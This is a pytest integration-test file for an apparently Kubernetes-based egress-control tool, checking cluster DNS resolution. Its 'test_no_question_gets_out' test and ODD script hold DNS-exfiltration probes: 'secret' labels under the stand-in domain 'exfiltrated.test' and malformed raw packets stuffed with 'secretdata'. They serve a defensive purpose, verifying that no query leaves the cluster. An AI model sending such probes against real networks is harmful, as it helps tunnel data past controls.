"""Every way in which programs ask for names, and every way in which a question might leave the cluster."""

import json
from collections.abc import Mapping
from ipaddress import ip_address, ip_network

import pytest

from exitway.names.address import SYNTHETIC
from exitway.names.cluster import RESOLVER_PORT, Placement
from tests.cluster.cluster import HTTP, SERVE, TCP_ECHO, Namespace, Pod, container, kubectl, until
from tests.cluster.outside import Seen

SEARCHED = "corp.test"
"""A domain that some pods search."""

ASK = """
import json, struct, sys, dns.flags, dns.message, dns.query, dns.rcode, dns.resolver
own = dns.resolver.Resolver().nameservers[0]
def ask(name, kind="A", how="udp", server="", port=53, rdclass="IN"):
    query = dns.message.make_query(name, kind, rdclass, use_edns=how == "edns")
    try:
        reply = (dns.query.tcp if how == "tcp" else dns.query.udp)(query, server or own, timeout=4, port=port)
    except Exception as error:
        return [type(error).__name__, [], False]
    records = [record.to_text() for found in reply.answer for record in found]
    return [dns.rcode.to_text(reply.rcode()), records, bool(reply.flags & dns.flags.TC)]
print(json.dumps([ask(**one) for one in json.loads(sys.argv[1])]))
"""

RESOLVE = """
import json, socket, sys
def resolve(name):
    try:
        return sorted({found[4][0] for found in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)})
    except OSError:
        return []
print(json.dumps([resolve(name) for name in sys.argv[1:]]))
"""

Answer = tuple[str, list[str], bool]


def ask(pod: Pod, *questions: Mapping[str, object]) -> list[Answer]:
    """The code, the records and whether there were more, for each question to the pod's own name server or another."""
    return [tuple(answer) for answer in json.loads(pod("python3", "-c", ASK, json.dumps(questions)))]


def one(pod: Pod, name: str, kind: str = "A", **question: object) -> Answer:
    return ask(pod, {"name": name, "kind": kind} | question)[0]


def resolve(pod: Pod, *names: str) -> list[list[str]]:
    """What the C library finds, by ndots and search domains; nothing where there is no such name."""
    found: list[list[str]] = json.loads(pod("python3", "-c", RESOLVE, *names))
    return found


def is_synthetic(address: str) -> bool:
    return any(ip_address(address) in network for network in SYNTHETIC)


def manual(namespace: Namespace, name: str, *addresses: str) -> str:
    """A headless service that leads to these addresses; its name."""
    namespace.apply(
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": name},
            "spec": {"clusterIP": "None", "ports": [{"port": 80}]},
        },
        {
            "apiVersion": "discovery.k8s.io/v1",
            "kind": "EndpointSlice",
            "metadata": {"name": name, "labels": {"kubernetes.io/service-name": name}},
            "addressType": "IPv4",
            "ports": [{"port": 80}],
            "endpoints": [{"addresses": [address]} for address in addresses],
        },
    )
    return f"{name}.{namespace.name}.svc.cluster.local"


@pytest.fixture(scope="module")
def searching(namespace: Namespace) -> Pod:
    """A pod with a search domain of its own."""
    return namespace.pod("searching", dnsConfig={"searches": [SEARCHED]})


@pytest.fixture(scope="module")
def external(namespace: Namespace) -> str:
    """A service that is another name for one outside."""
    spec = {"type": "ExternalName", "externalName": "db.lab.test"}
    namespace.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "external"}, "spec": spec})
    return f"external.{namespace.name}.svc.cluster.local"


def test_services_are_found_by_every_form_of_their_names(namespace: Namespace, pod: Pod) -> None:
    address = namespace.service("found")
    forms = [
        "found",
        f"found.{namespace.name}",
        f"found.{namespace.name}.svc",
        f"found.{namespace.name}.svc.cluster.local.",
    ]
    until(lambda: all(resolve(pod, *forms)))
    assert all(address in found for found in resolve(pod, *forms))
    assert "198.19.0.1" in resolve(pod, "kubernetes.default")[0]


def test_what_the_cluster_has_not_does_not_exist(namespace: Namespace, pod: Pod) -> None:
    here = namespace.name
    nginx = manual(namespace, "nginx", "203.0.113.9")
    until(lambda: one(pod, nginx)[1])
    names = [
        "nothing",
        f"nothing.{here}",
        f"nothing.{here}.svc",
        f"nothing.{here}.svc.cluster.local",
        "web-0.nginx",
        f"web-0.nginx.{here}",
    ]
    assert resolve(pod, *names) == [[]] * len(names)


def test_a_search_ends_at_the_name_that_is_meant(namespace: Namespace, searching: Pod, outside: Seen) -> None:
    assert SEARCHED in searching("cat", "/etc/resolv.conf")
    [found], [meant, walked] = (
        resolve(searching, "www.google.com"),
        [one(searching, name)[:2] for name in ("www.google.com", f"www.google.com.{SEARCHED}")],
    )
    assert meant[1][0] in found
    assert walked == ("NXDOMAIN", [])
    assert outside.queries() == []
    namespace.rule("named", to={"hosts": [f"db.{SEARCHED}"], "ports": HTTP})
    assert all(map(is_synthetic, until(lambda: resolve(searching, "db")[0])))
    assert one(searching, f"www.google.com.{SEARCHED}")[0] == "NXDOMAIN"


def test_more_than_fits_into_a_datagram_comes_over_tcp(namespace: Namespace, pod: Pod) -> None:
    many = [f"203.0.113.{number}" for number in range(1, 81)]
    name = manual(namespace, "many", *many)
    until(lambda: len(one(pod, name, how="tcp")[1]) == 80)
    (_, _, cut), (_, whole, _) = ask(pod, {"name": name}, {"name": name, "how": "tcp"})
    assert cut
    assert set(whole) == set(many)
    assert set(many) <= set(resolve(pod, name)[0])


def test_addresses_of_the_cluster_have_their_names(pod: Pod) -> None:
    code, names, _ = one(pod, "1.0.19.198.in-addr.arpa", "PTR")
    assert (code, names) == ("NOERROR", ["kubernetes.default.svc.cluster.local."])


def test_busybox_asks_as_small_images_do(namespace: Namespace, pod: Pod) -> None:
    said = pod("busybox", "nslookup", "kubernetes.default.svc.cluster.local", check=False)
    assert "198.19.0.1" in said
    said = pod("busybox", "nslookup", "www.google.com", check=False)
    assert any(
        is_synthetic(word)
        for line in said.splitlines()
        if line.startswith("Address")
        for word in line.split()[1:2]
        if ":53" not in word
    )


ODD = """
import socket, struct, sys
server, port = sys.argv[1], int(sys.argv[2])
name = b"".join(bytes([len(label)]) + label for label in (b"secret", b"exfiltrated", b"test")) + b"\\0"
inside = b"".join(bytes([len(label)]) + label for label in (b"secret.exfil", b"\\xff\\0 ", b"cluster", b"local")) + b"\\0"
header = struct.Struct("!HHHHHH").pack
cookie = b"\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0e\\0\\x0a\\0\\x0asecretdata"
queries = [
    header(1, 0x0100, 2, 0, 0, 0) + (name + b"\\0\\1\\0\\1") * 2,
    header(2, 0x0100, 1, 0, 0, 1) + name + b"\\0\\1\\0\\1" + cookie,
    header(3, 0x2800, 1, 0, 0, 0) + name + b"\\0\\6\\0\\1",
    header(4, 0x2400, 1, 0, 0, 0) + name + b"\\0\\6\\0\\1",
    header(5, 0x0100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\3",
    header(6, 0x0100, 1, 1, 0, 0) + name + b"\\0\\1\\0\\1" + name + b"\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4abcd",
    header(7, 0x0100, 1, 0, 0, 0) + inside + b"\\0\\1\\0\\1",
    header(8, 0x0100, 1, 0, 0, 0) + b"\\xc0\\x0c\\0\\1\\0\\1",
    header(9, 0x0100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1" + b"secretdata" * 20,
    b"secretdata" * 40,
]
for query in queries:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(0.2)
        try:
            udp.sendto(query, (server, port)); udp.recv(4096)
        except OSError: pass
    try:
        with socket.create_connection((server, port), 1) as tcp:
            tcp.settimeout(0.2)
            tcp.sendall(struct.pack("!H", len(query)) + query); tcp.recv(4096)
    except OSError: pass
"""


@pytest.mark.parametrize("server", ["198.19.0.10", "198.19.255.2", "198.51.100.53"])
def test_no_question_gets_out(pod: Pod, server: str, outside: Seen) -> None:
    names = [
        "secret.exfiltrated.test",
        "SeCrEt.eXfIlTrAtEd.TeSt",
        "secret.exfiltrated.testcluster.local",
        "secret.cluster.local.exfiltrated.test",
        "secret.exfiltrated.test.default.svc.cluster.local",
        "a.secret.exfiltrated.test.exitway-system.svc.cluster.local",
        "secret.exfiltrated.test.cluster.local",
        "_secret._tcp.exfiltrated.test",
        "secret\\.exfiltrated\\.test.cluster.local",
        f"{'s' * 63}.{'e' * 63}.{'c' * 63}.exfiltrated.test",
        "7.0.51.198.in-addr.arpa",
        "secret.1.0.19.198.in-addr.arpa",
        "1.0.0.10.in-addr.arpa",
        f"{'1.' * 32}ip6.arpa",
        "secret.exfiltrated.test.h-80.pod.exitway",
    ]
    kinds = ["A", "AAAA", "TXT", "NULL", "MX", "SRV", "CNAME", "NS", "SOA", "PTR", "HTTPS", "ANY"]
    ask(pod, *({"name": name, "kind": kind, "server": server} for name in names for kind in kinds))
    ask(
        pod, *({"name": name, "kind": "TXT", "server": server, "how": how} for name in names for how in ("tcp", "edns"))
    )
    ask(pod, *({"name": names[0], "kind": kind, "server": server, "how": "tcp"} for kind in ("AXFR", "IXFR")))
    ask(pod, {"name": names[0], "kind": "TXT", "server": server, "rdclass": "CH"})
    pod("python3", "-c", ODD, server, 53)
    assert outside.facts() == []


@pytest.fixture(scope="module")
def resolver(installed: str) -> str:
    """The address at which the sidecars' proxies ask."""
    words = ("get", "service", "-n", installed, "exitway-dns", "-o", "jsonpath={.spec.clusterIP}")
    return kubectl(*words)


def test_a_program_learns_nothing_where_its_proxy_asks(
    namespace: Namespace, pod: Pod, resolver: str, outside: Seen
) -> None:
    namespace.rule("only", to={"hosts": ["a.lab.test"], "ports": HTTP})
    questions = [
        "secret.exfiltrated.test.h-80",
        "a.lab.test.h-81",
        "kubernetes.default.svc.cluster.local.h-443",
        "t-241-0-0-1-443",
    ]
    answers = ask(
        pod, *({"name": f"{question}.pod.exitway", "server": resolver, "port": RESOLVER_PORT} for question in questions)
    )
    assert all(records == [] for _, records, _ in answers)
    pod("python3", "-c", ODD, resolver, RESOLVER_PORT)
    assert outside.queries() == []


def test_names_have_one_address_wherever_one_asks(namespace: Namespace, pod: Pod, placement: Placement) -> None:
    again = namespace.pod("again")
    names = [f"n{number}.example.net" for number in range(30)]
    here, there = ([records for _, records, _ in ask(one, *({"name": name} for name in names))] for one in (pod, again))
    assert len({record for records in here for record in records}) == len(names)
    if placement is Placement.SIDECAR:  # each replica answers some of these
        assert here == there
        assert all(ip_address(record) in ip_network("241.0.0.0/8") for records in here for record in records)


def test_a_server_of_names_in_the_cluster_is_reached_at_ports_of_its_own(namespace: Namespace, pod: Pod) -> None:
    """What is not DNS at its port is what it was."""
    server = namespace.pod("server", containers=[container(*SERVE)])
    assert pod.curl(f"http://{server.address()}:8080")[0] == 200


def test_a_service_that_is_a_name_outside_leads_to_that_names_synthetic_address(
    namespace: Namespace, pod: Pod, external: str, outside: Seen
) -> None:
    """The last of these: its proxy goes on asking where the name leads."""
    target = one(pod, "db.lab.test")[1]
    assert until(lambda: one(pod, external)[1]) == ["db.lab.test.", *target]
    assert is_synthetic(target[0])
    namespace.rule("echo", to={"hosts": ["db.lab.test"], "ports": TCP_ECHO})
    echo = f"import socket; s = socket.create_connection(('{external}', 7), 5); s.sendall(b'hi'); print(s.recv(2))"
    assert "hi" in until(lambda: pod("python3", "-c", echo, check=False))
    assert {fact["name"] for fact in outside.connections()} == {"db.lab.test"}
